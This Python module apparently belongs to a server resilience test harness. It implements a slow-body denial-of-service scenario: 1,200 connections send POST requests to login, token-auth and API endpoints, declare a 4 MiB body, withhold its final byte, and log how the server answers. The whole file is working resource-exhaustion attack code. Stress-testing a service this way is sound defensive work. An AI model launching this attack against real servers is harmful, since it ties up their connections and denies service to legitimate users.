"""Requests with a body of 4 MiB of which one byte never comes: by strangers, by somebody logged in, and with a token."""

import select
import socket

from harness import ADDRESSES

NAME = "4 MiB bodies that never end, 1,200 connections"

BODY = 4 << 20
FORM, JSON = "application/x-www-form-urlencoded", "application/json"
# How many connections, and what they ask.
STRANGERS = [(600, "/accounts/login/", FORM), (100, "/api/v2/token-auth/", JSON), (100, "/api/v2/auth/token/login/", JSON),
             (100, "/oidc/api-token-auth/", JSON)]


def prepare(site):
    jobs = [(path, kind, "", count) for count, path, kind in STRANGERS]
    jobs.append(("/user/preferences/", FORM, f"Cookie: {site.cookie('mallory')}\r\n", 150))
    jobs.append(("/api/v2/incidents/1/events/", JSON, f"Authorization: Token {site.mallory}\r\n", 150))
    return jobs


def attack(attacker, path, kind, header, count):
    """Sends on all connections in turn what the server takes, then looks at what it answers until the deadline."""
    head = (f"POST {path} HTTP/1.1\r\nHost: hostile\r\n{header}Content-Type: {kind}\r\n"
            f"Content-Length: {BODY - 1}\r\n\r\n").encode()
    chunk, total = b"a" * 65_536, len(head) + BODY - 2
    sending, poller = {}, select.epoll()
    for number in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((ADDRESSES[number % len(ADDRESSES)], 0))
        sock.connect_ex(attacker.address)
        poller.register(sock, select.EPOLLIN | select.EPOLLOUT)
        sending[sock.fileno()] = sock, 0
    while sending and attacker.left() > 0:
        for number, what in poller.poll(0.2):
            sock, sent = sending[number]
            try:
                if what & ~select.EPOLLOUT:
                    answer = sock.recv(65_536)
                    raise Answered(int(answer.split()[1]) if answer.startswith(b"HTTP/1.1 ") else 0)
                sent += sock.send(head if sent == 0 else chunk[:total - sent])
                sending[number] = sock, sent
                if sent >= total:
                    poller.modify(sock, select.EPOLLIN)
            except BlockingIOError:
                pass
            except (OSError, Answered) as error:
                attacker.count(path, error.args[0] if isinstance(error, Answered) else 0)
                poller.unregister(sock)
                sending.pop(number)[0].close()
    for sock, _ in sending.values():
        attacker.count(path, "still open")
        sock.close()


class Answered(Exception):
    """The status, or 0 where the connection was closed without one."""
